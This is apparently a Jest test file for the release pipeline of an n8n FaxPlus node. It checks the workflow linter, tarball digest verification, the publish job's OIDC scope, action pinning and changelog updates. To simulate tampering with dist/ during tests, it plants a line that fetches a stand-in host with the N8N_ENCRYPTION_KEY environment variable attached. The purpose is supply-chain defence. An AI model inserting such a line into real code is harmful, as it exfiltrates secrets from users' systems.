/* eslint-disable @n8n/community-nodes/no-restricted-imports, @n8n/community-nodes/no-restricted-globals, @n8n/community-nodes/no-dangerous-functions, @typescript-eslint/no-require-imports -- test code, not node code: the rules for what a node may import and use do not apply to it */
// The release checks: the workflow linter over .github/workflows (and that it finds real mistakes),
// publish.yml's own pack and publish steps run on a copy of the repository (a change planted in
// dist/ after the pack never reaches what is published), its job that holds the OIDC token, and the
// changelog step of `npm run release`.
import { spawnSync } from 'node:child_process';
import {
	appendFileSync,
	copyFileSync,
	mkdirSync,
	mkdtempSync,
	readFileSync,
	rmSync,
	writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const ROOT = join(__dirname, '../..');
const { lintWorkflows } = require('../../scripts/lint-workflows.js');
const { checkDigest } = require('../../scripts/release/pack.js');
const { releaseChangelog, repositoryUrl } = require('../../scripts/release/release.js');

describe('workflow linter', () => {
	it('finds no problem in ci.yml and publish.yml', async () => {
		const { files, problems } = await lintWorkflows(join(ROOT, '.github/workflows'));
		expect(files).toEqual(['ci.yml', 'publish.yml']);
		expect(problems).toEqual([]);
	});

	it('reports a missing job, an unknown expression property and a malformed step', async () => {
		const dir = mkdtempSync(join(tmpdir(), 'faxplus-workflows-'));
		try {
			writeFileSync(
				join(dir, 'bad.yml'),
				'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    needs: missing\n    steps:\n      - run: echo ${{ github.nonexistent }}\n      - uses: actions/checkout@v4\n        with: 3\n',
			);
			const { problems } = await lintWorkflows(dir);
			expect(problems).toEqual([
				expect.stringMatching(/needs job "missing" which does not exist/),
				expect.stringMatching(/property "nonexistent" is not defined/),
				expect.stringMatching(/"with" section is scalar node but mapping node is expected/),
			]);
		} finally {
			rmSync(dir, { recursive: true, force: true });
		}
	});
});

/** The text of `job` in a workflow file: from its key to the next job's. */
function jobText(workflow: string, job: string): string {
	const text = readFileSync(join(ROOT, '.github/workflows', workflow), 'utf8');
	const start = text.indexOf(`\n  ${job}:\n`);
	const next = text.slice(start + 1).search(/\n {2}[\w-]+:\n/);
	return next === -1 ? text.slice(start) : text.slice(start, start + 1 + next);
}

/**
 * A step of publish.yml's `job` as the runner runs it: its `run:` script in bash -eo pipefail with
 * its `env:`, where `${{ steps.pack.outputs.x }}` and `${{ needs.test.outputs.x }}` are `outputs.x`.
 */
function runStep(job: string, name: string, cwd: string, outputs: Record<string, string>) {
	const lines = jobText('publish.yml', job).split('\n');
	const first = lines.findIndex((line) => line.trim() === `- name: ${name}`);
	if (first === -1) throw new Error(`publish.yml's job ${job} has no step "${name}"`);
	const indent = lines[first].indexOf('-') + 2;
	const body: string[] = [];
	for (const line of lines.slice(first + 1)) {
		if (line.trim() && line.length - line.trimStart().length < indent) break;
		body.push(line.slice(indent));
	}
	const expand = (value: string) =>
		value.replace(
			/\$\{\{ (?:steps\.pack|needs\.test)\.outputs\.(\w+) \}\}/g,
			(_, key: string) => outputs[key] ?? '',
		);
	const env: Record<string, string> = {};
	const envAt = body.indexOf('env:');
	if (envAt !== -1)
		for (const line of body.slice(envAt + 1)) {
			const entry = /^ {2}(\w+): (.*)$/.exec(line);
			if (!entry) break;
			env[entry[1]] = expand(entry[2]);
		}
	const runAt = body.findIndex((line) => line.startsWith('run:'));
	const script = /^run: \|$/.test(body[runAt])
		? body
				.slice(runAt + 1)
				.map((line) => line.slice(2))
				.join('\n')
		: body[runAt].slice('run: '.length);
	const githubOutput = join(cwd, '..', 'github-output');
	writeFileSync(githubOutput, '');
	const result = spawnSync('bash', ['-eo', 'pipefail', '-c', script], {
		cwd,
		encoding: 'utf8',
		env: { ...process.env, ...env, GITHUB_OUTPUT: githubOutput, GITHUB_REF_NAME: 'v0.1.0' },
	});
	const stepOutputs = Object.fromEntries(
		readFileSync(githubOutput, 'utf8')
			.split('\n')
			.filter(Boolean)
			.map((line) => line.split('=', 2)),
	);
	return {
		status: result.status,
		output: `${result.stdout}${result.stderr}`,
		outputs: stepOutputs,
	};
}

describe('the release publishes the bytes it packed before the tests', () => {
	let dir: string;
	let repo: string;
	const nodeFile = 'dist/nodes/FaxPlus/FaxPlus.node.js';
	const planted = "fetch('https://collector.invalid/?k=' + process.env.N8N_ENCRYPTION_KEY);";

	beforeEach(() => {
		// A copy of the repository as the release job has it after its build.
		dir = mkdtempSync(join(tmpdir(), 'faxplus-release-'));
		repo = join(dir, 'repo');
		for (const file of ['package.json', 'README.md', 'LICENSE.md', 'scripts/release/pack.js']) {
			mkdirSync(join(repo, file, '..'), { recursive: true });
			copyFileSync(join(ROOT, file), join(repo, file));
		}
		const manifest = require('../../package.json');
		for (const file of [...manifest.n8n.nodes, ...manifest.n8n.credentials]) {
			mkdirSync(join(repo, file, '..'), { recursive: true });
			writeFileSync(join(repo, file), `'use strict';\n// ${file} as built\n`);
		}
	});
	afterEach(() => rmSync(dir, { recursive: true, force: true }));

	const unpacked = (tarball: string) =>
		spawnSync('tar', ['-xzOf', tarball, `package/${nodeFile}`], { encoding: 'utf8' }).stdout;

	it('refuses a tarball packed again after a change to dist/, and publishes the recorded one', () => {
		const packed = runStep('test', 'Pack once', repo, {});
		expect(packed).toMatchObject({ status: 0 });
		expect(packed.outputs).toEqual({
			tarball: 'n8n-nodes-faxplus-0.1.0.tgz',
			sha512: expect.stringMatching(/^[0-9a-f]{128}$/),
		});
		const tarball = join(repo, 'release', packed.outputs.tarball);
		const recorded = readFileSync(tarball);

		// What a dependency of the tests could do: change dist/ while they run.
		appendFileSync(join(repo, nodeFile), `${planted}\n`);
		const check = () =>
			runStep(
				'publish',
				'The tarball has the digest recorded when it was packed',
				repo,
				packed.outputs,
			);
		expect(check()).toMatchObject({ status: 0 });
		expect(unpacked(tarball)).not.toContain(planted);

		// Packed again (as the workflow did after the tests): the same name, other bytes.
		expect(runStep('test', 'Pack once', repo, {})).toMatchObject({ status: 0 });
		expect(unpacked(tarball)).toContain(planted);
		const refused = check();
		expect(refused.status).not.toBe(0);
		expect(refused.output).toMatch(
			/is not the tarball packed before the tests: nothing is published/,
		);
		expect(() => checkDigest(tarball, packed.outputs.sha512)).toThrow(
			/is not the tarball packed before the tests/,
		);

		// No digest recorded (the pack step failed): nothing passes.
		writeFileSync(tarball, recorded);
		expect(check()).toMatchObject({ status: 0 });
		expect(
			runStep('publish', 'The tarball has the digest recorded when it was packed', repo, {
				tarball: packed.outputs.tarball,
			}).status,
		).not.toBe(0);
	});

	it('runs nothing but the checks and npm publish where the OIDC token is, behind the npm environment', () => {
		const publish = jobText('publish.yml', 'publish');
		expect(publish).toContain('\n    environment: npm\n');
		expect(publish).toContain('id-token: write');
		const commands = [...publish.matchAll(/^\s+(?:- )?(?:run: (?!\|)(.+)|uses: (\S+).*)$/gm)].map(
			(m) => m[1] ?? m[2].split('@')[0],
		);
		expect(commands).toEqual([
			'actions/download-artifact',
			'actions/setup-node',
			'npm install --global npm@11.21.2 --no-audit --no-fund',
		]);
		expect([...publish.matchAll(/^ {6}- name: (.+)$/gm)].map((m) => m[1])).toEqual([
			'Set up Node.js 24',
			'npm 11.21.2',
			'The tarball has the digest recorded when it was packed',
			'Publish exactly that tarball',
		]);
		expect(publish).toMatch(/node-version: \d+\.\d+\.\d+\n/);
		expect(jobText('publish.yml', 'test')).not.toContain('id-token');
	});

	it("checks the tag's commit is on main before anything is built, and packs before the tests", () => {
		const test = jobText('publish.yml', 'test');
		expect(test).toContain('git merge-base --is-ancestor HEAD origin/main');
		expect(test.indexOf('--is-ancestor')).toBeLessThan(test.indexOf('npm ci'));
		expect(test.indexOf('- name: Pack once')).toBeLessThan(test.indexOf('run: bash .ci/run'));
	});

	it('pins every action to a full commit SHA, its version in a comment', () => {
		for (const workflow of ['ci.yml', 'publish.yml']) {
			const uses = readFileSync(join(ROOT, '.github/workflows', workflow), 'utf8').match(
				/uses: .*/g,
			);
			expect(uses?.length).toBeGreaterThan(0);
			for (const line of uses ?? [])
				expect(line).toMatch(/^uses: [\w-]+\/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
		}
	});
});

describe('npm run release: CHANGELOG.md', () => {
	const REPO = 'https://github.com/n8n-nodes-faxplus/n8n-nodes-faxplus';
	const changelog = [
		'# Changelog',
		'',
		'## [Unreleased]',
		'',
		'### Added',
		'- Example workflows.',
		'',
		'## [1.0.0] - 2026-11-01',
		'',
		'### Added',
		'- The first release.',
		'',
		`[Unreleased]: ${REPO}/compare/v1.0.0...HEAD`,
		`[1.0.0]: ${REPO}/releases/tag/v1.0.0`,
		'',
	].join('\n');

	it('turns the Unreleased entries into the new version, keeps an empty Unreleased and moves the compare links', () => {
		expect(releaseChangelog(changelog, '1.1.0', '2026-11-22', REPO)).toBe(
			[
				'# Changelog',
				'',
				'## [Unreleased]',
				'',
				'## [1.1.0] - 2026-11-22',
				'',
				'### Added',
				'- Example workflows.',
				'',
				'## [1.0.0] - 2026-11-01',
				'',
				'### Added',
				'- The first release.',
				'',
				`[Unreleased]: ${REPO}/compare/v1.1.0...HEAD`,
				`[1.1.0]: ${REPO}/compare/v1.0.0...v1.1.0`,
				`[1.0.0]: ${REPO}/releases/tag/v1.0.0`,
				'',
			].join('\n'),
		);
	});

	it('refuses a release with nothing under Unreleased, and a version released before', () => {
		const released = releaseChangelog(changelog, '1.1.0', '2026-11-22', REPO);
		expect(() => releaseChangelog(released, '0.3.0', '2026-11-23', REPO)).toThrow(
			/nothing under "## \[Unreleased\]"/,
		);
		expect(() => releaseChangelog(changelog, '1.0.0', '2026-11-23', REPO)).toThrow(
			/already has a section for 1.0.0/,
		);
	});

	it("reads the repository's URL from package.json, as the tags' compare links need it", () => {
		expect(repositoryUrl(require('../../package.json'))).toBe(REPO);
	});
});
